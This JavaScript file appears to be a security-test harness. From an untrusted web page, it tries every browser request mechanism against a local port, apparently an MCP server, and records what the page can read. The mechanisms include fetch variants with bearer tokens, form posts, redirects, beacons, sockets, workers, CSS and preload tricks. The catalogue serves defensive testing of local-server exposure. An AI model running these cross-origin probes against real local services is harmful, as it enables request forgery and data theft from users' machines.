// Everything a web page can try with a port of this computer. Runs in a page that nobody trusts; `attack` answers what
// the page could read, by the name of each attempt.
/** For what never says that it was refused. What is asked by a script always ends by itself. */
const WAIT_MS = 1000;
let frames = 0;

/** Puts an element into the page, for good: taking a frame away would end its request. */
function park(element) {
  (document.body ?? document.documentElement).append(element);
  return element;
}

function made(tag, properties) {
  return Object.assign(document.createElement(tag), properties);
}

/** Resolves when the element has loaded. @returns what the page learns: that it works, or the text of a frame's document. */
function loaded(element) {
  return new Promise((resolve, reject) => {
    element.addEventListener('error', () => reject(new Error('refused')));
    element.addEventListener('loadedmetadata', () => resolve('played'));
    element.addEventListener('load', () => {
      if (element instanceof HTMLIFrameElement || element instanceof HTMLObjectElement) {
        try {
          resolve(element.contentDocument?.body?.innerText);
        } catch {
          resolve(undefined);
        }
      } else resolve(element instanceof HTMLLinkElement ? undefined : 'loaded');
    });
    park(element);
  });
}

function frame(properties) {
  return loaded(made('iframe', properties));
}

async function read(answer) {
  const response = await answer;
  return response.type === 'opaque' || response.type === 'opaqueredirect'
    ? undefined
    : `${response.status} ${await response.text()}`;
}

function opened(source) {
  return new Promise((resolve, reject) => {
    source.onopen = () => resolve('open');
    source.onmessage = ({ data }) => resolve(String(data));
    source.onerror = () => reject(new Error('refused'));
  });
}

/** A form whose only field is the message, cut where `=` stands in it. */
function form(action, enctype, body, method = 'POST') {
  frames += 1;
  const name = `frame ${frames}`;
  const shown = frame({ name });
  const one = made('form', { method, action, target: name, enctype });
  const [before, ...after] = body.split('=');
  one.append(made('input', { name: before, value: after.join('=') }));
  park(one).submit();
  return shown;
}

function formData(name) {
  const data = new FormData();
  data.append(name, '');
  return data;
}

function xhr(method, url, headers, body) {
  return new Promise((resolve, reject) => {
    const request = new XMLHttpRequest();
    request.open(method, url);
    request.withCredentials = true;
    for (const [name, value] of Object.entries(headers)) request.setRequestHeader(name, value);
    request.onload = () => resolve(`${request.status} ${request.responseText}`);
    request.onerror = () => reject(new Error('refused'));
    request.send(body);
  });
}

function worker(Kind, source) {
  const made = new Kind(URL.createObjectURL(new Blob([source], { type: 'text/javascript' })));
  const port = made.port ?? made;
  return new Promise((resolve, reject) => {
    port.onmessage = ({ data }) => (data === '' ? reject(new Error('refused')) : resolve(data));
    made.onerror = () => reject(new Error('refused'));
  });
}

/** What a worker does: load the address as a script, and send the message there. */
function inWorker(url, body) {
  const given = JSON.stringify({ method: 'POST', mode: 'no-cors', body });
  return `const say = (text) => self.postMessage ? self.postMessage(text) : ports.forEach((port) => port.postMessage(text));
    const ports = [];
    self.onconnect = ({ ports: [port] }) => ports.push(port);
    let got = '';
    try { importScripts(${JSON.stringify(url)}); got = 'script'; } catch {}
    fetch(${JSON.stringify(url)}, ${given}).then((answer) => answer.type === 'opaque' ? '' : answer.text())
      .then((text) => say(got + text), () => say(got));`;
}

const POST_TYPES = {
  text: { 'content-type': 'text/plain' },
  form: { 'content-type': 'application/x-www-form-urlencoded' },
  multipart: { 'content-type': 'multipart/form-data; boundary=x' },
  json: { 'content-type': 'application/json' },
  'json in capitals': { 'content-type': 'APPLICATION/JSON; charset=utf-8' },
  'json as a parameter': { 'content-type': 'text/plain; a=application/json' },
};

function fetches({ url, token, say, modern, credentials = 'include' }) {
  const authorization = `Bearer ${token}`;
  const both = {
    'content-type': 'application/json',
    accept: 'application/json, text/event-stream',
    authorization,
  };
  const list = [];
  const add = (name, options) =>
    list.push([
      name,
      () => read(fetch(url, { credentials, cache: 'no-store', ...options, body: options.body?.(name) })),
    ]);
  for (const mode of ['cors', 'no-cors', 'same-origin']) {
    for (const [type, headers] of Object.entries(POST_TYPES)) {
      add(`fetch ${mode} ${type}`, { method: 'POST', mode, headers, body: say });
    }
    add(`fetch ${mode} untyped`, { method: 'POST', mode, body: (name) => new Blob([say(name)]) });
    add(`fetch ${mode} typed blob`, {
      method: 'POST',
      mode,
      body: (name) => new Blob([say(name)], { type: 'application/json' }),
    });
    add(`fetch ${mode} token`, { method: 'POST', mode, headers: both, body: say });
    add(`fetch ${mode} token untyped`, {
      method: 'POST',
      mode,
      headers: { authorization },
      body: (name) => new Blob([say(name)]),
    });
    add(`fetch ${mode} get`, { mode });
    add(`fetch ${mode} get token`, { mode, headers: { accept: 'text/event-stream', authorization } });
  }
  add('fetch without credentials token', { method: 'POST', credentials: 'omit', headers: both, body: say });
  add('fetch modern token', {
    method: 'POST',
    headers: {
      ...both,
      'mcp-protocol-version': '2026-07-28',
      'mcp-method': 'tools/call',
      'mcp-name': 'echo',
    },
    body: modern,
  });
  add('fetch modern text', { method: 'POST', mode: 'no-cors', headers: POST_TYPES.text, body: modern });
  for (const method of ['HEAD', 'PUT', 'PATCH', 'DELETE', 'OPTIONS'])
    add(`fetch ${method}`, { method, headers: { authorization } });
  add('fetch HEAD no-cors', { method: 'HEAD', mode: 'no-cors' });
  add('fetch keepalive', { method: 'POST', mode: 'no-cors', keepalive: true, body: say });
  add('fetch keepalive token', { method: 'POST', keepalive: true, headers: both, body: say });
  add('fetch form data', {
    method: 'POST',
    mode: 'no-cors',
    body: (name) => formData(say(name)),
  });
  add('fetch url parameters', {
    method: 'POST',
    mode: 'no-cors',
    body: (name) => new URLSearchParams({ [say(name)]: '' }),
  });
  add('fetch stream', {
    method: 'POST',
    headers: both,
    duplex: 'half',
    body: (name) => new Blob([say(name)]).stream(),
  });
  for (const targetAddressSpace of ['loopback', 'local', 'private', 'public']) {
    add(`fetch ${targetAddressSpace}`, { method: 'POST', mode: 'no-cors', targetAddressSpace, body: say });
    add(`fetch ${targetAddressSpace} token`, {
      method: 'POST',
      targetAddressSpace,
      headers: both,
      body: say,
    });
  }
  list.push([
    'fetch later',
    () =>
      void globalThis.fetchLater(url, {
        method: 'POST',
        mode: 'no-cors',
        body: say('fetch later'),
        activateAfter: 0,
      }),
  ]);
  return list;
}

function others({ url, token, say }) {
  const json = { type: 'application/json' };
  return [
    ['beacon text', () => void navigator.sendBeacon(url, say('beacon text'))],
    ['beacon untyped', () => void navigator.sendBeacon(url, new Blob([say('beacon untyped')]))],
    ['beacon json', () => void navigator.sendBeacon(url, new Blob([say('beacon json')], json))],
    ['beacon form data', () => void navigator.sendBeacon(url, formData(say('beacon form data')))],
    [
      'beacon url parameters',
      () => void navigator.sendBeacon(url, new URLSearchParams({ [say('beacon')]: '' })),
    ],
    ['xhr text', () => xhr('POST', url, POST_TYPES.text, say('xhr text'))],
    ['xhr untyped', () => xhr('POST', url, {}, new Blob([say('xhr untyped')]))],
    ['xhr json', () => xhr('POST', url, POST_TYPES.json, say('xhr json'))],
    [
      'xhr json token',
      () =>
        xhr(
          'POST',
          url,
          {
            ...POST_TYPES.json,
            accept: 'application/json, text/event-stream',
            authorization: `Bearer ${token}`,
          },
          say('xhr json token'),
        ),
    ],
    ['xhr get', () => xhr('GET', url, { accept: 'text/event-stream', authorization: `Bearer ${token}` })],
    ['event source', () => opened(new EventSource(url, { withCredentials: true }))],
    ['web socket', () => opened(new WebSocket(url.replace('http:', 'ws:')))],
    ['web socket token', () => opened(new WebSocket(url.replace('http:', 'ws:'), ['mcp', token]))],
    ['web transport', () => new WebTransport(url.replace('http:', 'https:')).ready.then(() => 'open')],
    ['worker', () => worker(Worker, inWorker(url, say('worker')))],
    ['shared worker', () => worker(SharedWorker, inWorker(url, say('shared worker')))],
    ['import', () => import(url).then(() => 'imported')],
  ];
}

function elements({ url, say, home, report }) {
  const css = (text) => () =>
    loaded(made('link', { rel: 'stylesheet', href: `data:text/css,${encodeURIComponent(text)}` })).then(
      () => undefined,
    );
  const styled = (property, value) => () =>
    void park(made('div', { style: `${property}: ${value}; width: 1px; height: 1px` }));
  const redirect = (status) => `${home}/redirect?status=${status}&to=${encodeURIComponent(url)}`;
  const svg = (text) => () => park(made('div', {})).insertAdjacentHTML('beforeend', `<svg>${text}</svg>`);
  const link = (rel, more) => [`link ${rel}`, () => loaded(made('link', { rel, href: url, ...more }))];
  return [
    ...['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data'].map((enctype) => [
      `form ${enctype}`,
      () => form(url, enctype, say(`form ${enctype}`)),
    ]),
    ['form get', () => form(url, '', 'a=b', 'GET')],
    ['form to redirect 307', () => form(redirect(307), 'text/plain', say('form to redirect 307'))],
    ...[301, 302, 303, 307, 308].flatMap((status) => [
      [
        `redirect ${status} no-cors`,
        () =>
          read(
            fetch(redirect(status), {
              method: 'POST',
              mode: 'no-cors',
              body: say(`redirect ${status} no-cors`),
            }),
          ),
      ],
      [`redirect ${status} frame`, () => frame({ src: redirect(status) })],
    ]),
    ['redirect 307 event source', () => opened(new EventSource(redirect(307)))],
    ['img', () => loaded(made('img', { src: url }))],
    ['img cors', () => loaded(made('img', { crossOrigin: 'use-credentials', src: url }))],
    ['script', () => loaded(made('script', { src: url }))],
    ['script module', () => loaded(made('script', { type: 'module', src: url }))],
    ['iframe', () => frame({ src: url })],
    ['object', () => loaded(made('object', { data: url }))],
    ['embed', () => loaded(made('embed', { src: url })).then(() => undefined)],
    ['video', () => loaded(made('video', { src: url }))],
    ['audio', () => loaded(made('audio', { src: url }))],
    ['input image', () => loaded(made('input', { type: 'image', src: url }))],
    ['svg image', svg(`<image href="${url}"/>`)],
    ['svg use', svg(`<use href="${url}#a"/>`)],
    link('stylesheet'),
    link('icon'),
    link('manifest'),
    link('preload', { as: 'script' }),
    link('modulepreload'),
    link('prefetch'),
    ['link prerender', () => void park(made('link', { rel: 'prerender', href: url }))],
    ['link preconnect', () => void park(made('link', { rel: 'preconnect', href: url }))],
    [
      'speculation rules',
      () =>
        void park(
          made('script', {
            type: 'speculationrules',
            textContent: JSON.stringify({ prefetch: [{ urls: [url], eagerness: 'immediate' }] }),
          }),
        ),
    ],
    ['css import', css(`@import url("${url}")`)],
    ['css font', css(`@font-face { font-family: f; src: url("${url}") } body { font-family: f }`)],
    ['css background', styled('background', `url("${url}")`)],
    ['css mask', styled('mask', `url("${url}")`)],
    ['meta refresh', () => frame({ srcdoc: `<meta http-equiv="refresh" content="0; url=${url}">` })],
    [
      'frame goes on',
      () => frame({ srcdoc: `<script>location.href = ${JSON.stringify(url)}</${'script'}>` }),
    ],
    ['anchor ping', () => park(made('a', { href: '#', ping: url, target: '_self' })).click()],
    [
      'navigator service worker',
      () =>
        navigator.serviceWorker.register(`/worker.js?to=${encodeURIComponent(url)}`).then(() => undefined),
    ],
    ['window', () => void window.open(url)?.closed],
    // What a page may not do without being asked: a report about itself.
    ['policy report', () => frame({ src: report })],
  ];
}

async function attack(target) {
  const reads = {};
  const late = () => new Promise((resolve) => setTimeout(resolve, WAIT_MS));
  const run = async ([name, attempt]) => {
    try {
      const trying = attempt();
      const got = await (name.startsWith('fetch') || name.startsWith('xhr')
        ? trying
        : Promise.race([trying, late()]));
      if (got !== undefined && got !== '') reads[name] = got;
    } catch {
      // Kept out.
    }
  };
  const filled = (template) => (name) =>
    template.replace('ATTEMPT', `${target.from} > ${target.name} > ${name}`);
  const given = { ...target, say: filled(target.legacy), modern: filled(target.modern ?? target.legacy) };
  const all = [...fetches(given), ...others(given), ...(target.elements ? elements(given) : [])];
  await Promise.all(all.map(run));
  return { attempts: all.map(([name]) => name), reads };
}

Object.assign(globalThis, { attack });
